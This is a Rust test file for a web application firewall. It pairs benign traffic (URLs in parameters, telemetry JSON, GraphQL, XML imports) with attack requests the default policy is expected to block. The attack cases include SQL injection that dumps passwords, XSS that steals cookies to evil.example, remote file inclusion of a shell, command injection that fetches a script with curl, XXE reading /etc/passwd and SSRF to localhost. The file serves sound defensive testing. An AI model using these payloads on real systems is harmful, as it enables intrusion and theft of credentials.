//! Benign traffic of real browsers and APIs that looks like an attack to a signature, beside the
//! attacks of the same shape, per class of issue 17: URLs in parameters and in the Referer,
//! search queries carried in the Referer, JSON telemetry and error reports, GraphQL documents,
//! XML values, `/~user` paths, loopback URLs in analytics parameters, multi-line JSON text.
//! Each case is a whole request through the default policy (sensitivity 2).

use waf_core::{Action, Policy, Request, Scratch, SourceFile};

fn policy() -> Policy {
    let sources: Vec<SourceFile> = waf_core::DEFAULT_RULES
        .iter()
        .map(|(n, t)| SourceFile::new(*n, *t))
        .collect();
    match Policy::from_sources(&sources) {
        Ok(p) => p,
        Err(e) => panic!("default policy does not compile: {e:?}"),
    }
}

/// One request: method, target, headers, body.
struct Case {
    method: &'static str,
    uri: &'static str,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
}

const fn get(uri: &'static str) -> Case {
    Case {
        method: "GET",
        uri,
        headers: &[],
        body: "",
    }
}

const fn referer(uri: &'static str, referer: &'static [(&'static str, &'static str)]) -> Case {
    Case {
        method: "GET",
        uri,
        headers: referer,
        body: "",
    }
}

const fn json(uri: &'static str, body: &'static str) -> Case {
    Case {
        method: "POST",
        uri,
        headers: &[("content-type", "application/json")],
        body,
    }
}

const fn form(uri: &'static str, body: &'static str) -> Case {
    Case {
        method: "POST",
        uri,
        headers: &[("content-type", "application/x-www-form-urlencoded")],
        body,
    }
}

/// The managed rule that blocked `c`, if any.
fn blocked_by(p: &Policy, s: &mut Scratch, c: &Case) -> Option<String> {
    let headers: Vec<(&str, &[u8])> = c.headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect();
    let req = Request {
        method: c.method,
        host: "shop.example.com",
        uri: c.uri,
        headers: &headers,
        body: c.body.as_bytes(),
        body_truncated: false,
        client_ip: None,
        country: None,
    };
    let v = p.inspect(&req, s);
    matches!(v.action, Action::Block | Action::Challenge)
        .then(|| v.matched.map(|m| m.rule_id).unwrap_or_default())
}

fn check(benign: &[Case], attacks: &[Case]) {
    let p = policy();
    let mut s = Scratch::new();
    let mut bad = Vec::new();
    for c in benign {
        if let Some(r) = blocked_by(&p, &mut s, c) {
            bad.push(format!(
                "false positive ({r}): {} {} {:?}",
                c.method, c.uri, c.body
            ));
        }
    }
    for c in attacks {
        if blocked_by(&p, &mut s, c).is_none() {
            bad.push(format!(
                "missed: {} {} {:?} {:?}",
                c.method, c.uri, c.headers, c.body
            ));
        }
    }
    assert!(bad.is_empty(), "\n{}", bad.join("\n"));
}

#[test]
fn urls_in_parameters_and_the_referer() {
    check(
        &[
            get("/collect?v=2&dl=https%3A%2F%2Fshop.example.com%2Findex.php%3Froute%3Dproduct%2Fcategory%26path%3D20&dt=Desktops"),
            get("/wp-login.php?redirect_to=https%3A%2F%2Fblog.example.org%2Fwp-admin%2Fpost.php%3Fpost%3D12%26action%3Dedit&reauth=1"),
            get("/out?u=http://www.example.net/forum/viewtopic.php?t=4242&sid=9"),
            get("/share?url=https%3A%2F%2Fwiki.example.org%2Fw%2Findex.php%3Ftitle%3DMain_Page%26action%3Dhistory"),
            get("/track?page=https%3A%2F%2Fintranet.example.com%2Fdefault.asp%3Fid%3D7"),
            referer(
                "/static/app.css",
                &[("referer", "https://www.example.com/index.php?option=com_content&view=article&id=12")],
            ),
            referer(
                "/products/42",
                &[("referer", "https://www.google.com/search?q=sql+union+select+tutorial&oq=union+select&sourceid=chrome")],
            ),
            get("/search?q=union+select+filter+plugin"),
            get("/search?q=A+TiddlyWeb+plugin+providing+a+union+select+filter."),
        ],
        &[
            get("/index.php?page=http://evil.example.net/shell.txt?"),
            get("/index.php?page=http://evil.example.net/c99.txt?cmd=id"),
            get("/index.php?inc=http://203.0.113.9/x.php"),
            get("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
            get("/item?id=-1+union+all+select+1,2,@@version--"),
            get("/item?id=1'+union+select+null,null--"),
            get("/item?name=x%22%20union%20select%0A"),
            referer("/", &[("referer", "https://example.com/?id=1' UNION SELECT password FROM users--")]),
            referer("/", &[("referer", "https://example.com/a?x=<script>alert(1)</script>")]),
            referer("/", &[("referer", "https://example.com/a?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E")]),
            referer("/", &[("referer", "https://example.com/a?file=../../../../etc/passwd")]),
            referer("/", &[("referer", "https://example.com/a?ip=127.0.0.1;cat /etc/passwd")]),
        ],
    );
}

#[test]
fn telemetry_and_error_reports() {
    check(
        &[
            json(
                "/api/errors",
                r#"{"message":"Uncaught TypeError: Cannot read properties of undefined (reading 'map')","stack":"TypeError: Cannot read properties of undefined (reading 'map')\n    at renderList (https://shop.example.com/static/js/main.4f2a.js:2:10433)\n    at HTMLDocument.<anonymous> (https://shop.example.com/static/js/main.4f2a.js:2:11020)","url":"https://shop.example.com/cart","line":2,"column":10433}"#,
            ),
            json(
                "/csp-report",
                r#"{"csp-report":{"document-uri":"https://shop.example.com/checkout","referrer":"","violated-directive":"script-src-elem","effective-directive":"script-src-elem","original-policy":"default-src 'self'; script-src 'self'","blocked-uri":"inline","line-number":14,"source-file":"https://shop.example.com/checkout","status-code":200,"script-sample":"window.dataLayer = window.dataLayer || [];"}}"#,
            ),
            json(
                "/api/rum",
                r#"{"type":"longtask","attribution":[{"name":"script","containerType":"iframe","containerSrc":"https://www.youtube.com/embed/x"}],"duration":183}"#,
            ),
            json(
                "/api/feedback",
                r#"{"page":"https://shop.example.com/help","comment":"The search box shows a broken image.\nSteps:\n1. open /help\n2. type a word\nLocation: Berlin office\nThanks!"}"#,
            ),
            json(
                "/api/tickets",
                r#"{"title":"Webhook fails","body":"Request was:\nPOST /hooks HTTP/1.1\nHost: api.example.com\nContent-Type: application/json\n\nand the answer 502."}"#,
            ),
        ],
        &[
            json(
                "/api/comments",
                r#"{"comment":"<script>alert(document.cookie)</script>"}"#,
            ),
            json(
                "/api/comments",
                r#"{"comment":"<img src=x onerror=alert(1)>"}"#,
            ),
            json(
                "/api/profile",
                r#"{"website":"javascript:alert(document.domain)"}"#,
            ),
            json(
                "/api/rum",
                r#"{"href":"javascript:void(document.location='https://evil.example/'+document.cookie)"}"#,
            ),
            get("/redirect?to=%0d%0aSet-Cookie:%20session=evil"),
            get("/lang?l=en%0d%0aLocation:%20https://evil.example/"),
        ],
    );
}

#[test]
fn graphql_documents() {
    check(
        &[
            json(
                "/graphql",
                r#"{"operationName":"Product","variables":{"id":"42"},"query":"query Product($id: ID!) {\n  product(id: $id) {\n    id\n    name\n    price\n    type\n    reviews(first: 5) {\n      id\n      rating\n      body\n    }\n  }\n}"}"#,
            ),
            json(
                "/graphql",
                r#"{"query":"mutation AddToCart($input: CartInput!) {\n  addToCart(input: $input) {\n    cart {\n      id\n      items { id quantity }\n    }\n    errors { field message }\n  }\n}","variables":{"input":{"sku":"A-1","qty":1}}}"#,
            ),
            get("/graphql?query=%7B%0A%20%20viewer%20%7B%0A%20%20%20%20id%0A%20%20%20%20login%0A%20%20%7D%0A%7D"),
        ],
        &[
            get("/ping?host=127.0.0.1%0aid"),
            get("/ping?host=127.0.0.1%0acat%20/etc/passwd"),
            json("/api/run", r#"{"host":"example.com\nwhoami\n"}"#),
        ],
    );
}

#[test]
fn bodies_without_content_type_and_mail_commands() {
    const fn raw(body: &'static str) -> Case {
        Case {
            method: "POST",
            uri: "/post",
            headers: &[("user-agent", "Mozilla/5.0")],
            body,
        }
    }
    check(
        &[
            raw("name=Jane&comment=Nice+shop%2C+fast+delivery"),
            raw("just some text posted without a type"),
            form(
                "/contact",
                "message=Hello%2C%0D%0AI+searched+for+a+blue+lamp.%0D%0AThanks%2C%0D%0AAnna",
            ),
        ],
        &[
            raw("code=time sh -c whoami\n"),
            raw("cmd=;'curl' http://evil.example/x.sh\n"),
            get("/mail?to=%0d%0aRCPT%20TO%3A%3CPostmaster%3E"),
            form(
                "/imap",
                "q=%0d%0aA282%20SEARCH%20FLAGGED%20SINCE%201-Feb-1994",
            ),
            form("/pop", "q=%0d%0aRETR%20123"),
        ],
    );
}

#[test]
fn xml_values_paths_and_loopback_urls() {
    check(
        &[
            form(
                "/api/import",
                "format=xml&data=%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E%3Corder%3E%3Cid%3E7%3C%2Fid%3E%3Cnote%3Eleave+at+door%3C%2Fnote%3E%3C%2Forder%3E",
            ),
            get("/~alice/"),
            get("/~alice/papers/thesis.pdf"),
        ],
        &[
            form(
                "/api/import",
                "data=%3C%3Fxml+version%3D%221.0%22%3F%3E%3C!DOCTYPE+x+%5B%3C!ENTITY+e+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E%3Cx%3E%26e%3B%3C%2Fx%3E",
            ),
            form(
                "/api/import",
                "data=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Cx%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E%3C%2Fx%3E",
            ),
            get("/search?q=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Csvg%2Fonload%3Dalert(1)%3E"),
            get("/index.php~"),
            get("/~bob/index.html~"),
            get("/backup.sql"),
            get("/fetch?url=http://127.0.0.1:6379/"),
            get("/proxy?url=http://localhost/admin"),
        ],
    );
}

#[test]
fn sql_quoted_as_text_in_a_search() {
    check(
        &[
            get("/wordpress/?s=drop+table+users%3B+select+*+from+posts+where+1%3D1"),
            get("/search?q=SELECT+id+FROM+posts+WHERE+1%3D1+AND+status+%3D+%27publish%27"),
        ],
        &[
            get("/item?id=1+or+1%3D1"),
            get("/item?id=1%3B+select+*+from+users+where+1%3D1"),
            get("/item?id=1)+or+1%3D1%3B+drop+table+users"),
            get("/search?q=x%27+or+x%3Dx%3B+select+1"),
        ],
    );
}
